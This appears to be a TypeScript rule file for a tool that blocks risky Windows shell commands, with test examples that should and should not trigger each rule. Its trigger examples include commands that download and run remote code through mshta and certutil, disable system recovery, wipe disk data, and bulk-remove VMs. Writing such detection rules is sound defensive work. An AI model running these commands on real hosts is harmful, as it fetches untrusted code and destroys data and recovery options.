// Flags changes of a Windows host, and signed programs that run what they are given.
import { allowRule, rule } from '../../../core/rule.ts'
import type { Effect } from '../../read/run.ts'

export const runThroughTrustedProgram = rule({
  id: 'shell.windows.proxy_run',
  severity: 'blocker',
  category: 'security',
  evidence: 'A',
  source: 'LOLBAS, MITRE ATT&CK T1218',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Run the program itself.',
  fires: ['mshta https://x.example.net/a.hta', 'certutil -urlcache -f https://x.example.net/a.exe a.exe'],
  quiet: ['certutil -hashfile a.zip SHA256', 'ver'],
})

export const disableRecovery = rule({
  id: 'shell.windows.recovery_off',
  severity: 'blocker',
  category: 'safety',
  evidence: 'A',
  source: 'bcdedit, reagentc (Microsoft Learn), MITRE ATT&CK T1490',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Leave the recovery on.',
  fires: ['reagentc /disable', 'bcdedit /set recoveryenabled no'],
  quiet: ['reagentc /info', 'bcdedit /enum'],
})

export const wipeWindowsData = rule({
  id: 'shell.windows.wipe',
  severity: 'blocker',
  category: 'safety',
  evidence: 'A',
  source: 'cipher, wsl (Microsoft Learn)',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Have a person confirm it.',
  fires: ['cipher /w:C', 'wsl --unregister Ubuntu'],
  quiet: ['wsl --list', 'cipher'],
})

export const changeWindowsHost = rule({
  id: 'shell.windows.change',
  severity: 'medium',
  category: 'safety',
  evidence: 'B',
  source: 'Approved Verbs for PowerShell Commands (Microsoft Learn)',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Have a person do it.',
  fires: ['Stop-Service -Name Spooler', 'New-SmbShare -Name docs -Path C:/docs'],
  quiet: ['Get-Service -Name Spooler', 'Get-SmbShare'],
})

export const changeEverythingListed = rule({
  id: 'shell.windows.bulk',
  severity: 'blocker',
  category: 'safety',
  evidence: 'B',
  source: 'about_Pipelines (Microsoft Learn)',
  message: ({ what }: { what: string }) =>
    `${what} is done to everything that the listing before it returns.`,
  fix: 'Print the list, and name what is meant.',
  alternative: 'the same with -WhatIf',
  fires: ['Get-VM | Remove-VM', 'Get-Service | Stop-Service'],
  quiet: ['Get-VM -Name web | Stop-VM', 'Get-VM'],
})

export const callEndingMethod = rule({
  id: 'shell.windows.method',
  severity: 'medium',
  category: 'missing_check',
  evidence: 'C',
  source: 'about_Methods (Microsoft Learn)',
  message: ({ subject, effect }: Effect) => `${subject} ${effect}.`,
  fix: 'Have a person do it.',
  fires: ["(Get-WmiObject Win32_Process -Filter 'Name=app').Terminate()", '(Get-Process -Name app).Kill()'],
  quiet: ['(Get-Date).Year', 'Get-Service -Name Spooler'],
})

export const readWindowsHost = allowRule({
  id: 'shell.pos.windows_read',
  evidence: 'B',
  source: 'Approved Verbs for PowerShell Commands (Microsoft Learn)',
  fires: ['Get-SmbShare -Name docs', 'Get-ADUser -Identity carol'],
  quiet: ['Stop-Service -Name Spooler', 'ls'],
})

export const readWindowsValue = allowRule({
  id: 'shell.pos.windows_value',
  evidence: 'B',
  source: 'about_Expressions (Microsoft Learn)',
  fires: ['(Get-Date).Year', '(Get-Item a.txt).Length'],
  quiet: ['ls', 'Stop-Service -Name Spooler'],
})
